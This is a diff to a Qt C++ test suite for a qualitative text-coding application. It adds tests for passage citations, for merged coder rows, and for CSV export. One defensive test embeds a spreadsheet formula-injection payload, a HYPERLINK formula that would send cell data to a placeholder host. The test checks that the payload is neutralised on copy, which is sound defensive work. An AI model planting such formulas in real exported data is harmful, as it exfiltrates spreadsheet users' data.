@@ -31,12 +31,14 @@
 #include <QCheckBox>
 #include <QClipboard>
 #include <QComboBox>
+#include <QDir>
 #include <QFile>
 #include <QImage>
 #include <QListWidget>
 #include <QSettings>
 #include <QSignalSpy>
 #include <QSpinBox>
+#include <QStandardItemModel>
 #include <QStandardPaths>
 #include <QTabWidget>
 #include <QTableView>
@@ -207,7 +209,8 @@ private Q_SLOTS:
         QCOMPARE(column(model, 0), (QStringList{QStringLiteral("exam pressure"), QStringLiteral("workload"),
                                                 QStringLiteral("Total (any code)")}));
         // Rows: exam pressure, workload, any code; columns: Beijing, Kunming, total.
-        //   segments: exam 2 (c1, c2) | 1 (c5) | 3;  workload 2 | 0 | 2;  any 4 | 1 | 5
+        //   passages and codings alike (no two codings share document, code, start and end):
+        //     exam 2 (c1, c2) | 1 (c5) | 3;  workload 2 | 0 | 2;  any 4 | 1 | 5
         //   documents: exam 1 | 1 | 2; workload 1 | 0 | 1; any 1 | 1 | 2
         //   % documents (Beijing has 2, Kunming 1, all 3): exam 50.0 | 100.0 | 66.7; workload 50.0 | 0.0 | 33.3
         //   coded characters, the union per document: exam [0,22) = 22 | 13 | 35; workload [17,49) = 32 | 0 | 32;
@@ -215,7 +218,8 @@ private Q_SLOTS:
         //   per 10,000: 22e4/77 = 2857.14 | 13e4/41 = 3170.73 | 35e4/118 = 2966.10; 32e4/77 = 4155.84 | 0 | 32e4/118 =
         //     2711.86; any 49e4/77 = 6363.64 | 3170.73 | 62e4/118 = 5254.24
         const QList<std::pair<QString, QList<QList<const char *>>>> expected = {
-            {QStringLiteral("Coded segments"), {{"2", "1", "3"}, {"2", "0", "2"}, {"4", "1", "5"}}},
+            {QStringLiteral("Passages"), {{"2", "1", "3"}, {"2", "0", "2"}, {"4", "1", "5"}}},
+            {QStringLiteral("Codings"), {{"2", "1", "3"}, {"2", "0", "2"}, {"4", "1", "5"}}},
             {QStringLiteral("Documents"), {{"1", "1", "2"}, {"1", "0", "1"}, {"1", "1", "2"}}},
             {QStringLiteral("% of documents"), {{"50.0", "100.0", "66.7"}, {"50.0", "0.0", "33.3"}, {"50.0", "100.0", "66.7"}}},
             {QStringLiteral("Coded characters"), {{"22", "13", "35"}, {"32", "0", "32"}, {"49", "13", "62"}}},
@@ -293,6 +297,10 @@ private Q_SLOTS:
         QCOMPARE(dialog->model()->passages()[0].text, QStringLiteral("Exam pressure"));
         QCOMPARE(dialog->model()->passages()[1].text, QStringLiteral("Exam pressure is high."));
         QCOMPARE(dialog->model()->passages()[1].who, QStringLiteral("bob"));
+        // Citations: bj1's first line "Exam pressure is high." is paragraph 1; characters counted from 1.
+        QCOMPARE(dialog->model()->index(0, PassagesModel::ParagraphColumn).data().toString(), QStringLiteral("¶ 1"));
+        QCOMPARE(dialog->model()->index(0, PassagesModel::PositionColumn).data().toString(), QStringLiteral("1–13"));
+        QCOMPARE(dialog->model()->index(1, PassagesModel::PositionColumn).data().toString(), QStringLiteral("1–22"));
 
         // From the passage to the document: the view shows bj1 with [0,22) selected.
         doubleClick(dialog->view(), dialog->model()->index(1, PassagesModel::TextColumn));
@@ -332,6 +340,9 @@ private Q_SLOTS:
         QCOMPARE(passageIds(m_compare->passagesDialog()), (QList<qint64>{m_codings[3], m_codings[2]}));
         QCOMPARE(m_compare->passagesDialog()->model()->passages()[0].text,
                  QStringLiteral("high.\nWorkload grows every term."));
+        // [17,49) runs from paragraph 1 into paragraph 2 (which starts at 23).
+        QCOMPARE(m_compare->passagesDialog()->model()->index(0, PassagesModel::ParagraphColumn).data().toString(),
+                 QStringLiteral("¶ 1–2"));
         m_compare->passagesDialog()->close();
 
         const QString png = m_dir.filePath(QStringLiteral("chart.png"));
@@ -359,6 +370,60 @@ private Q_SLOTS:
         copyTableAsCsv(view);
         QVERIFY(QApplication::clipboard()->text().startsWith(QStringLiteral("Code,Beijing,Total\nexam pressure,2,3\n")));
         view->setColumnHidden(2, false);
+    }
+
+    // Copy as CSV neutralises text a spreadsheet would run; numbers the model holds stay numbers.
+    void copiedCsvCannotRunFormulas()
+    {
+        QStandardItemModel model(1, 4);
+        model.setHorizontalHeaderLabels({QStringLiteral("=name"), QStringLiteral("count"), QStringLiteral("kappa"),
+                                         QStringLiteral("text")});
+        model.setItem(0, 0, new QStandardItem(QStringLiteral("=HYPERLINK(\"http://x/?\"&A1)")));
+        auto *count = new QStandardItem;
+        count->setData(-3, Qt::DisplayRole);
+        model.setItem(0, 1, count);
+        model.setItem(0, 2, new QStandardItem(QStringLiteral("-0.25")));
+        model.setItem(0, 3, new QStandardItem(QStringLiteral("@SUM(1)")));
+        QCOMPARE(tableCsv(&model), QStringLiteral("'=name,count,kappa,text\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",-3,-0.25,'@SUM(1)\n"));
+    }
+
+    // A passage two coders coded identically is one row of the passages list, naming both.
+    void passagesListShowsAPassageOnceWithItsCoders()
+    {
+        QTemporaryDir folder;
+        auto project = Project::create(QDir(folder.path()).filePath(QStringLiteral("p.marginalia")));
+        QVERIFY(project);
+        NewDocument document;
+        document.name = QStringLiteral("t");
+        document.text = QStringLiteral("intro\n\nT: we teach to the exam\n");   // paragraph 2 starts at 7
+        auto documentId = DocumentStore(**project).add(document);
+        QVERIFY(documentId);
+        auto codeId = Codebook(**project).add({QStringLiteral("exam"), 0, QStringLiteral("#e06c75"), {}, {}});
+        QVERIFY(codeId);
+        for (const QString &coder : {QStringLiteral("bob"), QStringLiteral("ann")}) {
+            NewCoding coding;
+            coding.documentId = *documentId;
+            coding.codeId = *codeId;
+            coding.start = 10;   // "we teach"
+            coding.end = 18;
+            coding.coder = coder;
+            QVERIFY(CodingStore(**project).add(coding));
+        }
+        CodingFilter filter;
+        filter.codeIds = {*codeId};
+        filter.passages = true;
+        auto segments = CodingStore(**project).segments(filter);
+        QVERIFY(segments);
+        QList<Passage> passages;
+        for (const CodedSegment &segment : std::as_const(*segments))
+            passages.append(Passage::fromSegment(segment));
+        PassagesModel model;
+        model.setPassages(passages);
+        QCOMPARE(model.rowCount(), 1);
+        QCOMPARE(model.index(0, PassagesModel::WhoColumn).data().toString(), QStringLiteral("ann, bob"));
+        QCOMPARE(model.index(0, PassagesModel::ParagraphColumn).data().toString(), QStringLiteral("¶ 2 (T)"));
+        QCOMPARE(model.index(0, PassagesModel::PositionColumn).data().toString(), QStringLiteral("11–18"));
+        QCOMPARE(model.index(0, PassagesModel::TextColumn).data().toString(), QStringLiteral("we teach"));
     }
 
     void cooccurrenceListsPairsAndTheirPassages()
@@ -402,6 +467,9 @@ private Q_SLOTS:
         QCOMPARE(passages[0].documentId, m_km1);
         QCOMPARE(passages[0].start, 27);
         QCOMPARE(passages[0].end, 35);
+        QCOMPARE(passages[0].firstParagraph, 1);   // km1 is one line
+        QCOMPARE(m_compare->passagesDialog()->model()->index(0, PassagesModel::PositionColumn).data().toString(),
+                 QStringLiteral("28–35"));
         m_compare->passagesDialog()->close();
 
         QSignalSpy refreshed(tab, &CompareTab::refreshed);
@@ -457,6 +525,12 @@ private Q_SLOTS:
         QCOMPARE((TextSpan{passages[0].start, passages[0].end}), (TextSpan{17, 23}));
         QCOMPARE((TextSpan{passages[1].start, passages[1].end}), (TextSpan{31, 49}));
         QCOMPARE(passages[1].text, QStringLiteral(" grows every term."));
+        // [17,23) is "high.\n": bj1's line 1 ([0,22)) and its line break, not line 2 (which starts at 23);
+        // [31,49) is in line 2.
+        QCOMPARE(m_compare->passagesDialog()->model()->index(0, PassagesModel::ParagraphColumn).data().toString(),
+                 QStringLiteral("¶ 1"));
+        QCOMPARE(m_compare->passagesDialog()->model()->index(1, PassagesModel::ParagraphColumn).data().toString(),
+                 QStringLiteral("¶ 2"));
         m_compare->passagesDialog()->close();
         // A disagreement jumps straight to the document.
         int examRow = -1;
